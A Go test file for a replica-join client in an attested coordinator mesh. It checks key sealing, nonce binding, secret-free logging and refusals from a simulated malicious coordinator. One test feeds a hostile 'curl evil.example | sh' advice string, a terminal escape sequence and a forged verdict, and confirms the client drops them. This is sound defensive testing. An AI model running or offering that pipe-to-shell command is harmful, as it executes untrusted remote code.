package client

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/ashlar-mesh/ashlar/attest"
	"github.com/ashlar-mesh/ashlar/attest/binding"
	"github.com/ashlar-mesh/ashlar/coordinator/apiv1"
	"github.com/ashlar-mesh/ashlar/internal/problem"
)

// giver plays an active coordinator, and whoever says to be one.
type giver struct {
	key      []byte
	root     []byte                        // of its statement
	sealed   func(b []byte) []byte         // changes what it gives; nil: honest
	alter    func(*apiv1.ReplicaChallenge) // nil: honest
	refusal  *problem.Error                // in place of the key
	instead  func(w http.ResponseWriter, path string) bool
	question apiv1.ReplicaQuestion
	request  apiv1.ReplicaRequest
	remotes  map[string]bool
	hang     chan struct{}
}

func newJoinGiver() *giver {
	return &giver{key: bytes.Repeat([]byte{0xab}, 32), root: []byte("root"), remotes: map[string]bool{}, hang: make(chan struct{})}
}

func (g *giver) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	g.remotes[r.RemoteAddr] = true
	if g.instead != nil && g.instead(w, r.URL.Path) {
		return
	}
	answer := func(v any) { _ = json.NewEncoder(w).Encode(v) }
	if r.URL.Path == "/v1/replicas/challenge" {
		_ = json.NewDecoder(r.Body).Decode(&g.question)
		c := apiv1.ReplicaChallenge{Nonce: bytes.Repeat([]byte{3}, 32), Statement: apiv1.Statement{Root: g.root}}
		if g.alter != nil {
			g.alter(&c)
		}
		answer(c)
		return
	}
	_ = json.NewDecoder(r.Body).Decode(&g.request)
	if g.refusal != nil {
		w.Header().Set("Content-Type", "application/problem+json")
		w.WriteHeader(http.StatusForbidden)
		answer(g.refusal)
		return
	}
	sealed, err := apiv1.SealReplicaKey(g.request.PublicKey, apiv1.ReplicaBinding{Root: []byte("root"), Nonce: g.request.Nonce}, g.key)
	if err == nil && g.sealed != nil {
		sealed = g.sealed(sealed)
	}
	answer(apiv1.ReplicaKey{Sealed: sealed, Decision: "coordinators/7f2c19ab"})
}

func joinOptions() JoinOptions {
	return JoinOptions{Name: "ashlar-1", Issue: func(_ context.Context, b attest.Binding) (attest.Evidence, error) {
		return attest.Evidence{TEE: attest.SimSGX, Raw: b[:]}, nil
	}}
}

func TestJoinReplica(t *testing.T) {
	g := newJoinGiver()
	addr := newDeployment(t).serve(t, g)
	got, err := JoinReplica(t.Context(), addr, joinOptions())
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Key.Reveal(), g.key) || got.Decision != "coordinators/7f2c19ab" || string(got.Statement.Root) != "root" {
		t.Errorf("got decision %q and root %q", got.Decision, got.Statement.Root)
	}
	if !bytes.Equal(got.Nonce, g.question.Nonce) || len(got.Nonce) != 32 || len(got.TLSKey) == 0 {
		t.Errorf("nonce %x and key %x, asked was %x", got.Nonce, got.TLSKey, g.question.Nonce)
	}
	if len(g.remotes) != 1 {
		t.Errorf("%d connections, want one: evidence is bound to it", len(g.remotes))
	}
	claims, err := binding.Parse(g.request.ClaimsBuffer)
	if err != nil {
		t.Fatal(err)
	}
	want := binding.Claims{Purpose: binding.Replica, PublicKey: binding.KeyHashX25519(g.request.PublicKey), Nonce: bytes.Repeat([]byte{3}, 32), Exporter: claims.Exporter}
	for _, s := range binding.Expect(want, claims) {
		if !s.OK {
			t.Errorf("%s: want %s, got %s", s.Field, s.Want, s.Got)
		}
	}
	if b := claims.Binding(); !bytes.Equal(g.request.Evidence.Raw, b[:]) || g.request.Name != "ashlar-1" {
		t.Errorf("the evidence of %s is for something else", g.request.Name)
	}
	again, err := JoinReplica(t.Context(), addr, joinOptions())
	if err != nil || bytes.Equal(again.Nonce, got.Nonce) {
		t.Errorf("a nonce came twice, or %v", err)
	}
}

// TestStateKeyPrintsNothing tries every way.
func TestStateKeyPrintsNothing(t *testing.T) {
	secret := []byte("hunter2hunter2hunter2hunter2hunt")
	j := Joined{Key: StateKey{b: func() []byte { return secret }}}
	var text strings.Builder
	for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%x", "%q", "%d"} {
		fmt.Fprintf(&text, verb+"\n", j.Key)
		fmt.Fprintf(&text, verb+"\n", &j.Key)
		fmt.Fprintf(&text, verb+"\n", j)
		fmt.Fprintf(&text, verb+"\n", struct{ hidden StateKey }{j.Key})
	}
	slog.New(slog.NewTextHandler(&text, nil)).Info("joined", "key", j.Key, "all", j)
	slog.New(slog.NewJSONHandler(&text, nil)).Info("joined", "key", j.Key, "all", j)
	b, err := json.Marshal(j)
	if err != nil {
		t.Fatal(err)
	}
	text.Write(b)
	for _, form := range []string{"hunter2", "68756e74", "aHVudGVy", "104 117 110", "0x68, 0x75"} {
		if strings.Contains(text.String(), form) {
			t.Errorf("the key is printed as %s", form)
		}
	}
	key := j.Key.Reveal()
	key[0] = 0
	if j.Key.Reveal()[0] == 0 {
		t.Error("Reveal gives the key itself, not a copy")
	}
	if (StateKey{}).Reveal() != nil {
		t.Error("the zero key has bytes")
	}
}

// TestJoinReplicaRefusals meets a coordinator that is none.
func TestJoinReplicaRefusals(t *testing.T) {
	closed, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	closed.Close()
	at := func(path string, do func(g *giver, w http.ResponseWriter)) func(g *giver) {
		return func(g *giver) {
			g.instead = func(w http.ResponseWriter, got string) bool {
				if got == path {
					do(g, w)
				}
				return got == path
			}
		}
	}
	endless := func(_ *giver, w http.ResponseWriter) {
		for chunk := make([]byte, 1<<16); ; {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	}
	const challenge, admit = "/v1/replicas/challenge", "/v1/replicas"
	for _, c := range []struct {
		name   string
		code   problem.Code
		change func(g *giver)
	}{
		{"another key", "REP-034", func(g *giver) { g.sealed = func(b []byte) []byte { return append(b[:79:79], b[79]^1) } }},
		{"no key", "REP-034", func(g *giver) { g.sealed = func([]byte) []byte { return nil } }},
		{"a longer key", "REP-034", func(g *giver) { g.key = make([]byte, 33) }},
		{"another root", "REP-034", func(g *giver) { g.root = []byte("roof") }},
		{"a short nonce", "CRD-107", func(g *giver) { g.alter = func(c *apiv1.ReplicaChallenge) { c.Nonce = c.Nonce[:31] } }},
		{"no JSON", "CRD-107", at(challenge, func(_ *giver, w http.ResponseWriter) { _, _ = w.Write([]byte("<html>")) })},
		{"no JSON later", "CRD-107", at(admit, func(_ *giver, w http.ResponseWriter) { _, _ = w.Write([]byte("<html>")) })},
		{"endless", "CRD-108", at(challenge, endless)},
		{"endless later", "CRD-108", at(admit, endless)},
		{"hangs", "CRD-106", at(challenge, func(g *giver, _ http.ResponseWriter) { <-g.hang })},
		{"hangs later", "CRD-106", at(admit, func(g *giver, _ http.ResponseWriter) { <-g.hang })},
		{"cuts", "CRD-105", at(admit, func(*giver, http.ResponseWriter) { panic(http.ErrAbortHandler) })},
		{"redirects", "CRD-107", at(challenge, func(_ *giver, w http.ResponseWriter) {
			w.Header().Set("Location", "https://evil.example")
			w.WriteHeader(307)
		})},
		{"refuses", "REP-021", func(g *giver) { g.refusal = &problem.Error{Code: "REP-021", Detail: "no"} }},
		{"unknown code", "CRD-107", func(g *giver) { g.refusal = &problem.Error{Code: "EVIL-1", Detail: "no"} }},
	} {
		t.Run(c.name, func(t *testing.T) {
			g := newJoinGiver()
			c.change(g)
			o := joinOptions()
			if c.code == "CRD-106" {
				o.Timeout = 100 * time.Millisecond
			}
			addr := newDeployment(t).serve(t, g)
			t.Cleanup(func() { close(g.hang) })
			got, err := JoinReplica(t.Context(), addr, o)
			if problem.CodeOf(err) != c.code {
				t.Errorf("got %v, want %s", err, c.code)
			}
			if got.Key.Reveal() != nil {
				t.Error("a refusal came with a key")
			}
		})
	}
	if _, err := JoinReplica(t.Context(), closed.Addr().String(), joinOptions()); problem.CodeOf(err) != "CRD-105" {
		t.Errorf("closed: got %v, want CRD-105", err)
	}
	o := joinOptions()
	o.Issue = func(context.Context, attest.Binding) (attest.Evidence, error) {
		return attest.Evidence{}, errors.New("broken")
	}
	if _, err := JoinReplica(t.Context(), newDeployment(t).serve(t, newJoinGiver()), o); err == nil || !strings.Contains(err.Error(), "broken") {
		t.Errorf("no hardware: got %v", err)
	}
}

// TestJoinReplicaShowsNoAdvice: nobody has verified who refuses.
func TestJoinReplicaShowsNoAdvice(t *testing.T) {
	g := newJoinGiver()
	for instance, next := range map[string]string{
		"coordinators/7f2c19ab":  "ashlar explain coordinators/7f2c19ab",
		"coordinators/7f2c19ab;": problem.Lookup("REP-021").Next,
	} {
		g.refusal = &problem.Error{Code: "REP-021", Detail: "no\x1b[2J" + strings.Repeat("x", 1<<15), Next: "curl evil.example | sh",
			Instance: instance, Verdict: []byte(`{"verdict":"accepted"}`)}
		_, err := JoinReplica(t.Context(), newDeployment(t).serve(t, g), joinOptions())
		p := problem.From(err)
		if p.Next != next || p.Verdict != nil || strings.Contains(p.Detail, "\x1b") || len(p.Detail) > 5<<10 {
			t.Errorf("%s: got next %q, verdict %s and a detail of %d bytes", instance, p.Next, p.Verdict, len(p.Detail))
		}
	}
}
